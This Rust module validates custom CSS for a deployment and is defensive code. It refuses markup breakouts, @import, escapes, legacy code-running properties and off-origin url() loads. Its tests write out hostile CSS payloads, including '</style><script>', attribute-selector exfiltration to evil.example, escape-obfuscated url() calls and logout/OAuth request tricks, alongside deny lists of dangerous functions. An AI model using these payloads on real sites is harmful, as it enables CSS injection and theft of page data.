//! The rules on a deployment's own CSS: it may restyle the page, not leave the `<style>` element, load code or
//! other sheets, or ask for anything but its pictures and fonts: a rule that matches by what a field holds would tell it.

use std::fmt;

use super::url;

/// The size of a style sheet that the service takes, in bytes.
const MAX_BYTES: usize = 131_072;

/// At-rules that only choose when rules apply or how things move. All others are refused.
const AT_RULES: [&str; 6] = [
    "media",
    "supports",
    "container",
    "layer",
    "keyframes",
    "font-face",
];

/// Functions that take an address as a string, and those of old browsers that run code.
const REFUSED_FUNCTIONS: [&str; 8] = [
    "image-set",
    "-webkit-image-set",
    "image",
    "cross-fade",
    "-webkit-cross-fade",
    "src",
    "expression",
    "element",
];

/// Checks a style sheet. `addresses` are the deployment's logo, background and font, the only ones that it may name besides
/// the files under `/brand/`.
pub(super) fn check(css: &str, addresses: &[&str]) -> Result<(), CssError> {
    if css.len() > MAX_BYTES {
        return Err(CssError::TooLong);
    }
    // Neither has a meaning in CSS that a page needs, and either can end or open markup.
    if css.contains("</") || css.contains("<!") || css.contains('\0') {
        return Err(CssError::Markup);
    }
    let mut open = Vec::new();
    let mut rest = css;
    while let Some(next) = rest.chars().next() {
        let after = &rest[next.len_utf8()..];
        rest = match next {
            '/' if after.starts_with('*') => {
                after[1..].split_once("*/").ok_or(CssError::Unclosed)?.1
            }
            '"' | '\'' => skip_string(after, next)?,
            // An escape could spell `url(` or `@import` in a way that this scan does not see.
            '\\' => return Err(CssError::Escape),
            '@' => at_rule(after)?,
            '{' | '(' | '[' => {
                open.push(next);
                after
            }
            '}' | ')' | ']' => match (open.pop(), next) {
                (Some('{'), '}') | (Some('('), ')') | (Some('['), ']') => after,
                _ => return Err(CssError::Unclosed),
            },
            _ if is_name(next) => {
                let end = rest.find(|c| !is_name(c)).unwrap_or(rest.len());
                let (name, after) = rest.split_at(end);
                match after.strip_prefix('(') {
                    Some(argument) => function(name, argument, &mut open, addresses)?,
                    None => property(name, after)?,
                }
            }
            _ => after,
        };
    }
    if open.is_empty() {
        Ok(())
    } else {
        Err(CssError::Unclosed)
    }
}

fn is_name(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '-' || c == '_' || !c.is_ascii()
}

fn skip_string(rest: &str, quote: char) -> Result<&str, CssError> {
    let mut escaped = false;
    for (index, c) in rest.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            // A string ends at its line's end, wrongly; browsers then read on as if it were CSS.
            '\n' | '\r' | '\u{c}' => return Err(CssError::Unclosed),
            _ if c == quote => return Ok(&rest[index + 1..]),
            _ => {}
        }
    }
    Err(CssError::Unclosed)
}

fn at_rule(rest: &str) -> Result<&str, CssError> {
    let end = rest.find(|c| !is_name(c)).unwrap_or(rest.len());
    let (name, after) = rest.split_at(end);
    let plain = name.to_ascii_lowercase();
    let plain = plain.strip_prefix("-webkit-").unwrap_or(&plain);
    if AT_RULES.contains(&plain) {
        Ok(after)
    } else {
        Err(CssError::AtRule(shorten(name)))
    }
}

fn function<'a>(
    name: &str,
    argument: &'a str,
    open: &mut Vec<char>,
    addresses: &[&str],
) -> Result<&'a str, CssError> {
    let name = name.to_ascii_lowercase();
    if REFUSED_FUNCTIONS.contains(&name.as_str()) {
        return Err(CssError::Function(name));
    }
    if name != "url" && name != "url-prefix" {
        open.push('(');
        return Ok(argument);
    }
    let (address, after) = argument.split_once(')').ok_or(CssError::Unclosed)?;
    let address = address.trim();
    let unquoted = ['"', '\'']
        .iter()
        .find_map(|quote| address.strip_prefix(*quote)?.strip_suffix(*quote))
        .unwrap_or(address);
    let allowed = addresses.contains(&unquoted)
        || url::is_brand_file(unquoted)
        || unquoted.starts_with("data:image/");
    // Browsers end a string at a form feed too, and leave tabs out of an address: `/<tab>/host` is another origin's.
    let refused = |c: char| matches!(c, '"' | '\'' | '\\') || c.is_control();
    if allowed && !unquoted.contains(refused) && !unquoted.contains("/*") {
        Ok(after)
    } else {
        Err(CssError::Url(shorten(unquoted)))
    }
}

/// `behavior` and `-moz-binding` loaded code in old browsers.
fn property<'a>(name: &str, after: &'a str) -> Result<&'a str, CssError> {
    let refused =
        name.eq_ignore_ascii_case("behavior") || name.eq_ignore_ascii_case("-moz-binding");
    if refused && after.trim_start().starts_with(':') {
        return Err(CssError::Function(name.to_ascii_lowercase()));
    }
    Ok(after)
}

fn shorten(text: &str) -> String {
    text.chars().take(80).collect()
}

/// Why a style sheet is refused.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CssError {
    /// Over 131,072 bytes.
    TooLong,
    /// It holds `</` or `<!`.
    Markup,
    /// A comment, string, bracket or block has no end, or an end has no start.
    Unclosed,
    /// A backslash outside of a string.
    Escape,
    /// An at-rule such as `@import`.
    AtRule(String),
    /// A function or property that loads or runs something.
    Function(String),
    /// An address that is neither under `/brand/` nor the deployment's logo, background or font.
    Url(String),
}

impl fmt::Display for CssError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::TooLong => write!(f, "must be at most {MAX_BYTES} bytes"),
            Self::Markup => f.write_str("must not hold \"</\" or \"<!\""),
            Self::Unclosed => {
                f.write_str("has a comment, string, bracket or block without its other end")
            }
            Self::Escape => f.write_str("must not hold a backslash outside of a string"),
            Self::AtRule(name) => write!(f, "must not use @{name}"),
            Self::Function(name) => write!(f, "must not use {name}"),
            Self::Url(address) => write!(f, "must not load {address:?}"),
        }
    }
}

impl std::error::Error for CssError {}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const LOGO: &str = "https://cdn.example/logo.svg";

    #[test]
    fn ordinary_rules_pass() {
        for css in [
            "",
            ".card { box-shadow: none } /* quiet */",
            "@media (width >= 40rem) { h1 { font-size: calc(1rem + (2vw * 2)) } }",
            "@keyframes rise { from { opacity: 0 } to { opacity: 1 } }",
            ".brand::after { content: \"\\201C }\" }",
            "body { background: url(/brand/pattern.svg) }",
            "@font-face { font-family: a; src: url(\"/brand/a.woff2\") }",
            "body { background: url(\"https://cdn.example/logo.svg\") }",
            "input[type=\"password\"] { letter-spacing: .1em }",
            ".größe > a { color: rgb(1 2 3 / 40%) }",
        ] {
            assert_eq!(check(css, &[LOGO]), Ok(()), "{css}");
        }
    }

    #[test]
    fn the_style_element_cannot_be_left() {
        for css in [
            "</style><script>",
            "</STYLE >",
            "a{} <!-- b",
            "a { content: \"</style>\" }",
        ] {
            assert_eq!(check(css, &[]), Err(CssError::Markup), "{css}");
        }
    }

    #[test]
    fn no_other_sheet_is_loaded() {
        assert_eq!(
            check("@import \"x.css\";", &[]),
            Err(CssError::AtRule("import".into()))
        );
        assert_eq!(
            check("@IMPORT url(/x.css);", &[]),
            Err(CssError::AtRule("IMPORT".into()))
        );
        assert_eq!(
            check("/**/@import/**/\"//x\";", &[]),
            Err(CssError::AtRule("import".into()))
        );
        assert_eq!(
            check("@\\69mport \"x\";", &[]),
            Err(CssError::AtRule("".into()))
        );
    }

    #[test]
    fn nothing_is_sent_to_another_origin() {
        for css in [
            "input[value^=a] { background: url(https://evil.example/a) }",
            "a { background: URL( 'https://evil.example' ) }",
            "a { background: url(//evil.example) }",
            "a { background: url(/x'//evil) }",
            "a { background: url(\"/a\" \"https://evil.example\") }",
            "a { background: url(https://cdn.example/logo.svg?x) }",
            "a { background: url(data:text/html,x) }",
            "a { background: url(\"/\t/evil.example\") }",
            "a { background: url(\"/\u{c}\")\" ) } b { background: url(//evil.example) } c { d: \" }",
        ] {
            assert!(
                matches!(check(css, &[LOGO]), Err(CssError::Url(_))),
                "{css}"
            );
        }
        for css in [
            "a { background: image-set(\"https://evil.example\" 1x) }",
            "a { background: -webkit-image-set(\"https://evil.example\" 1x) }",
            "a { width: expression(alert(1)) }",
            "a { behavior: none }",
        ] {
            assert!(
                matches!(check(css, &[]), Err(CssError::Function(_))),
                "{css}"
            );
        }
        assert_eq!(
            check("a { background: \\75rl(https://evil.example) }", &[]),
            Err(CssError::Escape)
        );
        assert_eq!(
            check("a { background: u\\72l(https://evil.example) }", &[]),
            Err(CssError::Escape)
        );
    }

    #[test]
    fn of_its_own_origin_a_page_asks_for_files_alone() {
        for css in [
            "a { background: url(/logout?client_id=a) }",
            "input[value^=a] { background: url(\"/oauth2/authorize?prompt=none&state=a\") }",
            "a { background: url(/oauth2/authorize) }",
            "a { background: url(/favicon.svg) }",
            "a { background: url(/brand/a.svg?state=a) }",
            "a { background: url(/brand/../logout) }",
            "a { background: url(/brand/%2e%2e/logout) }",
            "a { background: url(/BRAND/a.svg) }",
            "a { background: url(brand/a.svg) }",
            "a { background: url(//brand/a.svg) }",
            "a { background: url(?x) }",
        ] {
            assert!(
                matches!(check(css, &[LOGO]), Err(CssError::Url(_))),
                "{css}"
            );
        }
        let own = "a { background: url(/favicon.svg) }";
        assert_eq!(check(own, &["/favicon.svg"]), Ok(()));
    }

    #[test]
    fn what_is_opened_is_closed() {
        for css in [
            "a {",
            "a }",
            "a { b: (c } )",
            "/* a",
            "a { content: \"b }",
            "a { content: 'b\n' }",
            "url(/x",
        ] {
            assert_eq!(check(css, &[]), Err(CssError::Unclosed), "{css}");
        }
    }

    #[test]
    fn a_sheet_has_an_end() {
        assert_eq!(
            check(&"a".repeat(MAX_BYTES + 1), &[]),
            Err(CssError::TooLong)
        );
    }

    proptest! {
        #[test]
        fn any_text_is_judged_without_a_panic(css in "[@a-zA-Zé(){}\\[\\]\"'\\\\/*<!: \n]{0,40}") {
            let _verdict = check(&css, &[LOGO]);
        }

        #[test]
        fn what_passes_holds_no_address_of_another_origin(
            before in "[a-z{}() \"'/*\\\\]{0,12}", after in "[a-z{}() \"'/*\\\\]{0,12}"
        ) {
            let css = format!("{before} url(https://evil.example/{after}");
            // Inside a comment or a string it is no address.
            prop_assume!(!before.contains(['"', '\'', '*']));
            prop_assert!(check(&css, &[]).is_err(), "{}", css);
        }
    }
}
